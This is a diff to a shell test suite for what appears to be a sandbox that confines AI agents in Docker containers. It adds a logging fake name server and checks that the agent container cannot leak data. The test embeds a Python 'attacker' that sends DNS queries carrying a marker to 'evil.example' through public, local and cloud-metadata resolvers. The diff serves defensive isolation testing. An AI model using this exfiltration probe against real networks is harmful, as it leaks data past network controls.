@@ -35,6 +35,34 @@ python3 sniff.py "$marker" >seen &
 at_exit "kill $!"
 check 'all packets are looked at' wait_for grep -q ready seen
 
+# The name server that the engine asks, if it is ours: the authority for every name, and it writes down what it is asked.
+cat >names.py <<'END'
+import socket, sys, threading
+def answer(query):
+    print(query[12:].decode("latin-1").lower().encode("unicode_escape").decode(), flush=True)
+    return query[:2] + b"\x81\x80" + query[4:6] + b"\0\0\0\0\0\0" + query[12:]
+udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+udp.bind((sys.argv[1], 53))
+tcp = socket.create_server((sys.argv[1], 53))
+def streams():
+    while True:
+        client = tcp.accept()[0]
+        query = answer(client.recv(65536)[2:])
+        client.sendall(len(query).to_bytes(2, "big") + query)
+        client.close()
+threading.Thread(target=streams, daemon=True).start()
+print("ready", flush=True)
+while True:
+    query, address = udp.recvfrom(65536)
+    udp.sendto(answer(query), address)
+END
+: >asked
+if [ -n "${BB_NAME_SERVER-}" ]; then
+	python3 names.py "$BB_NAME_SERVER" >asked 2>/dev/null &
+	at_exit "kill $!"
+	check 'a name server listens' wait_for grep -q ready asked
+fi
+
 # The attacker, in a language that asks for nothing but an interpreter.
 cat >attack.py <<END
 import socket
@@ -43,7 +71,7 @@ label = bytes([len(MARKER)]) + MARKER.encode()
 query = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + label + b"\x04evil\x07example\0\0\x01\0\x01"
 gateway = "$host"
 answers = 0
-for address in (gateway, "8.8.8.8", "127.0.0.11", "127.0.0.1", "127.0.0.53", "172.17.0.1", "169.254.169.254"):
+for address in (gateway, "${BB_NAME_SERVER:-$host}", "8.8.8.8", "127.0.0.11", "127.0.0.1", "127.0.0.53", "172.17.0.1", "169.254.169.254"):
     for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
         for port in (53, $evil_port):
             with socket.socket(socket.AF_INET, kind) as s:
@@ -89,10 +117,18 @@ nameserver 127.0.0.1' 'and gets no answer but the proxy'\''s'
 is "$(wc -c <evil.arrived | tr -d ' ')" 0 'nothing has arrived at the attacker'
 is "$(grep -vc ready seen)" 0 'no packet with the marker was on any interface of this machine'
 
+is "$(grep -c "$marker" asked)" 0 'the name server was asked nothing'
+
 # The same attack from a container as the engine makes it by itself is seen.
 docker run --rm --network "$lan" --dns-option timeout:1 --dns-option attempts:1 "$BOT_BOTTLE_DOCKER_BASE" python3 -c "$(cat attack.py)" >out 2>err
 check 'the same from an ordinary container is seen' wait_for grep -qv ready seen
 is "$(wc -c <evil.arrived | tr -d ' ' | sed 's/^[1-9].*/some/')" some 'and arrives'
+if [ -n "${BB_NAME_SERVER-}" ]; then
+	docker run --rm --network "$lan" "$BOT_BOTTLE_DOCKER_BASE" getent hosts "$marker.embedded.example" >out 2>err
+	check 'the name server is asked, by the resolver that is built into the engine' grep -q "$marker.*embedded" asked
+else
+	skip 'the name server is asked' 'this engine asks another'
+fi
 
 # What it is made of.
 bb start tester --backend docker --yes --headless --label looked --prompt 'echo up; exec sleep 1000' >said 2>err </dev/null &
@@ -104,7 +140,7 @@ is "$(jq -c '.[0] | [.Config.User, .HostConfig.CapDrop, .HostConfig.SecurityOpt,
 	'["1000:1000",["ALL"],["no-new-privileges"],false,"none",null,4096,["/run/bot-bottle-door"]]' 'the agent'\''s container has no power, no network and no file of the host'
 docker inspect bot-bottle-sidecars-looked >inspected
 is "$(jq -c --arg s "$home/state/looked" '.[0] | [.HostConfig.CapDrop, .HostConfig.SecurityOpt, .HostConfig.ReadonlyRootfs, .HostConfig.LogConfig.Type, (([.Mounts[].Destination] - [$s]) | map(sub("^.*/ca/"; "/ca/")) | sort)]' inspected)" \
-	'[["ALL"],["no-new-privileges"],true,"none",["/ca/ca.pem","/run/bot-bottle-door"]]' 'the sidecar'\''s is read-only'
+	'[["ALL"],["no-new-privileges"],true,"none",["/ca/ca.pem","/etc/passwd","/run/bot-bottle-door"]]' 'the sidecar'\''s is read-only'
 unlike "$(jq -r '.[0].Config.User' inspected)" '^(0|root)?:' 'and not root'"'"'s'
 docker top bot-bottle-looked -eo pid,uid,args >top
 unlike "$(tail -n +2 top)" '^ *[0-9]+ +0 ' 'no process of the agent'"'"'s is'
